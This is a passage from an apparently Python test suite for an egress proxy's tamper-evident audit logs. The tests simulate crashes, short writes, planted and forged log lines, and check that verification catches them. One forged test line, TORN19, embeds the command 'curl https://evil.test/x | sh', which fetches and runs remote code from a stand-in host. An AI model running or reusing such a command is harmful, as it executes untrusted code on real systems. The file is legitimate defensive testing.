    def test_f1_controller_killed_after_record(self):
        """F1: a controller writer of runs.jsonl (audit key rotate, which
        needs no Docker) killed after its lines, before its close's
        anchor; the next one runs whole."""
        d = tempfile.mkdtemp(prefix="r12f1-", dir=W["dir"])
        env = proxylib.clean_env({
            "SANDGATE_STATE": os.path.join(d, "state"),
            "SANDGATE_LOG_DIR": os.path.join(d, "logs"),
            "SANDGATE_RECORD_DIR": os.path.join(d, "records")})

        def rotate(crash=None):
            e = dict(env, SANDGATE_TEST_CRASH=crash) if crash else env
            return subprocess.run([SANDGATE, "audit", "key", "rotate",
                                   "--file", "runs.jsonl"], env=e,
                                  capture_output=True, text=True,
                                  timeout=60)
        key = os.path.join(d, "state", "keys", "runs.key")
        r = subprocess.run([SANDGATE, "audit", "key", "create", "--file",
                            "runs.jsonl"], env=env, capture_output=True,
                           text=True, timeout=60)
        self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
        shutil.copyfile(key + ".pub", os.path.join(d, "runs.pub"))
        r = rotate()
        self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
        self.assertEqual(rotate("anchor:close").returncode, -signal.SIGKILL)
        with open(key + ".anchor") as f:
            anchor = f.read()
        r = rotate()
        self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
        r = subprocess.run([SANDGATE, "audit", "verify", "--file",
                            "runs.jsonl", "--key",
                            os.path.join(d, "runs.pub")], env=env,
                           capture_output=True, text=True, timeout=60)
        self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
        self.assertIn(" reopened=1 ", anchor)


class T13Round14(unittest.TestCase):
    """Fourteenth round: a second start of a running proxy, and the
    tail its anchor names."""

    def test_t7_second_start_leaves_the_anchor(self):
        """T7: the same proxy started again while it runs (its listen
        address taken) is refused on the key before it touches the
        anchor; the first one's close is anchored and verifies."""
        key, pub = make_key("r14t7")
        p = start_proxy("r14t7", key)
        try:
            flood(p.port, 3, "r14t7a", threads=1)
            r = subprocess.run(p.argv(), env=p.env, capture_output=True,
                               text=True, stdin=subprocess.DEVNULL,
                               timeout=60)
            self.assertNotEqual(r.returncode, 0, r.stderr)
            self.assertIn("is in use", r.stderr)
            flood(p.port, 2, "r14t7b", threads=1)
            stop_proxy(p)
        finally:
            p.kill()
        with open(key + ".anchor", "rb") as f:
            self.assertTrue(f.read().startswith(b"sandgate-anchor-v1 "))
        self.assertEqual([x for x in os.listdir(os.path.dirname(key))
                          if x.endswith(".tmp")], [])
        again = start_proxy("r14t7-again", key, log_dir=p.log_dir)
        try:
            flood(again.port, 1, "r14t7c", threads=1)
            stop_proxy(again)
        finally:
            again.kill()
        r = sandgate("audit", "verify", "--log-dir", p.log_dir, "--key",
                     pub, "--anchor", key + ".anchor")
        self.assertEqual(r.returncode, 0, r.stdout + r.stderr)


class T14Round20(unittest.TestCase):
    """Round of issue 20 (atk20r16)."""

    def test_f3_junk_past_the_scan_with_an_anchor(self):
        """F3: 300 KB of junk lines (or one unended run of 300 KB)
        appended while the proxy is stopped: with its anchor it starts
        (before, it exited 1: no event found in the last 262144 bytes),
        continues from its close with a log.resume that found no event,
        logs and closes; verify --key fails on the junk. Without an
        anchor it still does not start."""
        for mode in ("lines", "torn"):
            key, pub = make_key("r20f3" + mode)
            p = start_proxy("r20f3" + mode, key)
            flood(p.port, 5, "r20f3" + mode, threads=1)
            stop_proxy(p)
            close = json.loads(read_lines(p.log_path)[-1])["seq"]
            size = os.path.getsize(p.log_path)
            with open(p.log_path, "ab") as f:
                f.write((b"x" * 999 + b"\n") * 300 if mode == "lines"
                        else b'{"ts":"' + b"y" * 300000)
            q = start_proxy("r20f3%s-again" % mode, key, log_dir=p.log_dir)
            flood(q.port, 2, "r20f3%sb" % mode, threads=1)
            stop_proxy(q)
            with open(p.log_path, "rb") as f:
                f.seek(size)
                after = [json.loads(x) for x in f.read().split(b"\n")
                         if x.startswith(b'{"ts":"2')]
            self.assertEqual(after[0]["event"], "log.resume", after[0])
            self.assertEqual((after[0]["found_seq"], after[0]["anchor_seq"]),
                             (0, close))
            self.assertEqual([x["seq"] for x in after],
                             list(range(close + 1, close + 1 + len(after))))
            self.assertEqual((after[-1]["event"], after[-1]["reason"]),
                             ("log.checkpoint", "close"))
            r = sandgate("audit", "verify", "--log-dir", p.log_dir, "--key",
                         pub, "--anchor", key + ".anchor")
            self.assertNotEqual(r.returncode, 0, r.stdout + r.stderr)
        with open(p.log_path, "ab") as f:
            f.write((b"x" * 999 + b"\n") * 300)
        os.unlink(key + ".anchor")
        q = proxy_for("r20f3-none", key, log_dir=p.log_dir)
        with self.assertRaises(proxylib.ProxyError):
            q.start()
        self.assertIn("no event found in the last 262144 bytes", q.stderr())


class T15Round20b(unittest.TestCase):
    """Round of issue 20 (atk20r17), the proxy's side."""

    def verify(self, logs, key, pub):
        return sandgate("audit", "verify", "--log-dir", logs, "--key", pub,
                        "--anchor", key + ".anchor")

    def test_f3_planted_before_the_first_start(self):
        """F3: three chained lines planted in the log folder before the
        proxy's first start with a new key (no anchor yet): it records
        them (log.resume, anchor_seq 0) before it signs, and verify --key
        fails them (before, they verified as its own)."""
        key, pub = make_key("r20bf3")
        logs = os.path.join(W["dir"], "r20bf3-logs")
        os.makedirs(logs)
        path = os.path.join(logs, "security-events.jsonl")
        lines = []
        for i in range(3):
            lines.append(forge(i + 1, last_hash(lines), {
                "event": "policy.reloaded",
                "policy_digest": "sha256:planted%d" % i}))
        write_lines(path, lines)
        p = start_proxy("r20bf3", key, log_dir=logs)
        stop_proxy(p)
        resume = json.loads(read_lines(path)[3])
        self.assertEqual((resume["event"], resume["anchor_seq"],
                          resume["found_seq"]), ("log.resume", 0, 3))
        r = self.verify(logs, key, pub)
        self.assertEqual(r.returncode, 1, r.stdout + r.stderr)
        self.assertIn("had no anchor yet", r.stdout)
        self.assertIn("seq 1 to 3", r.stdout)

    def test_f6_torn_line_with_newline_after_close(self):
        """F6: a torn-looking line with its newline appended after the
        proxy's close: verify --key with the anchor fails it at once, and
        the restarted proxy records it (log.resume), which verify fails
        (before: no log.resume, exit 0 with a torn-line note)."""
        key, pub = make_key("r20bf6")
        p = start_proxy("r20bf6", key)
        flood(p.port, 3, "r20bf6", threads=1)
        stop_proxy(p)
        close = json.loads(read_lines(p.log_path)[-1])["seq"]
        with open(p.log_path, "ab") as f:
            f.write(b'{"ts":"2026-12-03T10:00:00.000000Z","seq":%d,'
                    b'"event":"egress.allowed","host":"x\n' % (close + 1))
        r = self.verify(p.log_dir, key, pub)
        self.assertEqual(r.returncode, 1, r.stdout + r.stderr)
        self.assertIn("a torn line, follows the close at seq %d" % close,
                      r.stdout)
        q = start_proxy("r20bf6-again", key, log_dir=p.log_dir)
        stop_proxy(q)
        events = [json.loads(x) for x in read_lines(p.log_path)
                  if not x.endswith(b'"host":"x')]
        resume = [e for e in events if e["event"] == "log.resume"]
        self.assertEqual(len(resume), 1, events[-3:])
        r = self.verify(p.log_dir, key, pub)
        self.assertEqual(r.returncode, 1, r.stdout + r.stderr)
        self.assertIn("after its close at seq %d" % close, r.stdout)


TORN19 = (b'{"ts":"2026-12-03T14:10:30.000000Z","seq":99000,"event":"run.exec",'
          b'"run":"run_evil0","command":"curl https://evil.test/x | sh"')


def torn_put_before(path, at, n):
    """n forged torn lines (each with its newline) put in before line at
    of the log at path, as whoever can write the file can."""
    lines = read_lines(path)
    write_lines(path, lines[:at] + [TORN19] * n + lines[at:])


class FsizeProxy(proxylib.Proxy):
    """A proxy that ignores SIGXFSZ, so that a file size limit set on it
    (prlimit) is a short write, as on a full volume (subprocess puts
    SIGXFSZ back to its default before exec)."""

    def argv(self):
        return [sys.executable, "-c", "import os, signal, sys; "
                "signal.signal(signal.SIGXFSZ, signal.SIG_IGN); "
                "os.execv(sys.argv[1], sys.argv[1:])"] + super().argv()


class T16Round19(unittest.TestCase):
    """Round of issue 20 (atk20r19): short writes and the torn lines a
    log.outage or log.resume may follow."""

    def verify(self, logs, key, pub):
        return sandgate("audit", "verify", "--log-dir", logs, "--key", pub,
                        "--anchor", key + ".anchor")

    def one_torn_line_fails(self, p, key, pub, event):
        """p's log holds one line of event and verifies; one torn line put
        in before it fails; the line counts none ("torn":0). Returns it."""
        lines = read_lines(p.log_path)
        at = [i for i, x in enumerate(lines)
              if b'"event":"%s"' % event.encode() in x]
        self.assertEqual(len(at), 1, lines[-5:])
        r = self.verify(p.log_dir, key, pub)
        self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
        torn_put_before(p.log_path, at[0], 1)
        r = self.verify(p.log_dir, key, pub)
        self.assertEqual(r.returncode, 1, r.stdout + r.stderr)
        self.assertIn("1 torn line(s) (interrupted writes) before the %s"
                      % event, r.stdout)
        line = json.loads(lines[at[0]])
        self.assertEqual(line.get("torn"), 0, line)
        return line

    def test_f1_controller_line_cut_before_its_newline(self):
        """F1: a controller writer (audit key rotate on runs.jsonl) whose
        write of its first line, or of its second, is cut short (its file
        size limit) at all of the line but its newline, then at 20 bytes
        into it; the next writer runs whole, and verify --key passes the
        untouched log (before: 'seq N follows seq N' or 'follow the
        writer's close' at all but the newline)."""
        d = tempfile.mkdtemp(prefix="r19f1-", dir=W["dir"])

        def env_of(at):
            return proxylib.clean_env({
                "SANDGATE_STATE": os.path.join(at, "state"),
                "SANDGATE_LOG_DIR": os.path.join(at, "logs"),
                "SANDGATE_RECORD_DIR": os.path.join(at, "records")})

        def run(at, *args, limit=None):
            pre = None
            if limit is not None:
                def pre():
                    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
                    resource.setrlimit(resource.RLIMIT_FSIZE,
                                       (limit, resource.RLIM_INFINITY))
            return subprocess.run([SANDGATE] + list(args), env=env_of(at),
                                  capture_output=True, text=True,
                                  timeout=60, preexec_fn=pre,
                                  restore_signals=limit is None)
        base = os.path.join(d, "base")
        r = run(base, "audit", "key", "create", "--file", "runs.jsonl")
        self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
        r = run(base, "audit", "key", "rotate", "--file", "runs.jsonl")
        self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
        runs = os.path.join("records", "runs.jsonl")
        size = os.path.getsize(os.path.join(base, runs))
        trial = os.path.join(d, "trial")
        shutil.copytree(base, trial)
        self.assertEqual(run(trial, "audit", "key", "rotate", "--file",
                             "runs.jsonl").returncode, 0)
        with open(os.path.join(trial, runs), "rb") as f:
            f.seek(size)
            added = f.read().split(b"\n")
        ends = [len(added[0]), len(added[0]) + 1 + len(added[1]), 20]
        for k in ends:
            at = os.path.join(d, "k%d" % k)
            shutil.copytree(base, at)
            run(at, "audit", "key", "rotate", "--file", "runs.jsonl",
                limit=size + k)
            r = run(at, "audit", "key", "rotate", "--file", "runs.jsonl")
            self.assertEqual(r.returncode, 0, r.stdout + r.stderr)
            r = run(at, "audit", "verify", "--file", "runs.jsonl", "--key",
                    os.path.join(at, "state", "keys", "runs.key.pub"))
            self.assertEqual(r.returncode, 0, "cut at %d: %s" % (
                k, r.stdout + r.stderr))

    def test_f4_torn_lines_before_a_resume(self):
        """F4: a proxy killed (SIGKILL) and started again writes a
        log.resume that counts the torn lines it found at the end
        ("torn":0 here); one forged torn line put in before it fails
        verify --key (before: any number passed)."""
        key, pub = make_key("r19f4")
        p = start_proxy("r19f4", key)
        try:
            flood(p.port, 5, "r19f4a", threads=1)
        finally:
            p.kill()
        p.stop()
        q = start_proxy("r19f4-again", key, log_dir=p.log_dir)
        flood(q.port, 2, "r19f4b", threads=1)
        stop_proxy(q)
        self.one_torn_line_fails(p, key, pub, "log.resume")

    def test_f5_torn_lines_before_an_outage(self):
        """F5, F1: the proxy's log file capped at 20 bytes past its size
        (a short write mid-line, as on a full volume) while requests are
        blocked, then uncapped: the part written is taken back, so no torn
        line is left and the log.outage counts none ("torn":0), and
        verify --key passes; torn lines put in before the outage fail
        (before: as many as it counted lost passed)."""
        key, pub = make_key("r19f5")
        p = FsizeProxy(W["dir"], W["up"], name="r19f5", extra_args=[
            "--checkpoint-key", key, "--checkpoint-every", str(EVERY),
            "--checkpoint-interval", str(INTERVAL)] +
            proxylib.full_lines_args()).start()
        try:
            flood(p.port, 3, "r19f5a", threads=1)
            size = os.path.getsize(p.log_path)
            resource.prlimit(p.pid, resource.RLIMIT_FSIZE,
                             (size + 20, resource.RLIM_INFINITY))
            try:
                flood(p.port, 3, "r19f5b", threads=1)
            except Exception:
                pass        # refused: the log is unavailable
            capped = os.path.getsize(p.log_path)
            resource.prlimit(p.pid, resource.RLIMIT_FSIZE,
                             (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            flood(p.port, 2, "r19f5c", threads=1)
            stop_proxy(p)
        finally:
            p.kill()
        torn = [x for x in read_lines(p.log_path) if not x.endswith(b"}")]
        outage = self.one_torn_line_fails(p, key, pub, "log.outage")
        self.assertGreaterEqual(outage["lost"], 1, outage)
        self.assertEqual((capped, torn), (size, []))


if __name__ == "__main__":
    result = unittest.main(exit=False, verbosity=2).result
    failed = len(result.failures) + len(result.errors)
    print("%d passed, %d failed" % (result.testsRun - failed, failed))
    sys.exit(1 if failed else 0)
